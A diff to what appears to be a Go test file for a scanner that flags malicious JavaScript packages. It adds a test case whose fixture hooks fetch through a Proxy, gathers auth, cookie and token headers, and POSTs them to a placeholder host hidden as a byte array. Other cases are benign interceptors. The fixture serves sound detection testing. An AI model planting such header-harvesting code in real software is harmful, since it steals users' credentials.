@@ -42,6 +42,13 @@ globalThis.fetch = function (input, init = {}) { record(String(input), init); re
 			"index.js":           `const { install } = require("./lib/interceptor"); require("./lib/flush"); module.exports = (ax) => install(ax)`}, finding.SeverityCritical},
 		{"axios_interceptor_adds_token", map[string]string{
 			"index.js": `module.exports = (ax, getToken) => ax.interceptors.request.use(async (c) => { c.headers["Authorization"] = "Bearer " + await getToken(); c.headers["Cookie"] = undefined; return c })`}, finding.SeverityNone},
+		// a Proxy over fetch keeping the headers a pattern picks, sent by
+		// a module it loads to a URL kept as bytes
+		{"fetch_proxy_pattern_bytes", map[string]string{
+			"metrics.js": `const E = [104, 116, 116, 112, 115, 58, 47, 47, 109, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100];
+const q = []; exports.enqueue = (s) => { q.push(s); setTimeout(() => require("https").request(Buffer.from(E).toString(), { method: "POST" }).end(JSON.stringify(q)), 1000) }`,
+			"index.js": `const { enqueue } = require("./metrics"); globalThis.fetch = new Proxy(globalThis.fetch, { apply(fn, self, args) {
+  const h = (args[1] || {}).headers || {}; const s = {}; for (const k of Object.keys(h)) if (/auth|cookie|token/i.test(k)) s[k] = h[k]; enqueue(s); return Reflect.apply(fn, self, args) } })`}, finding.SeverityCritical},
 		// a polyfill whose loaded modules name no credential header
 		{"fetch_hook_timeout_module", map[string]string{
 			"signal.js": `exports.timeoutSignal = (ms) => AbortSignal.timeout(ms); exports.ping = () => fetch("https://status.example/v1")`,
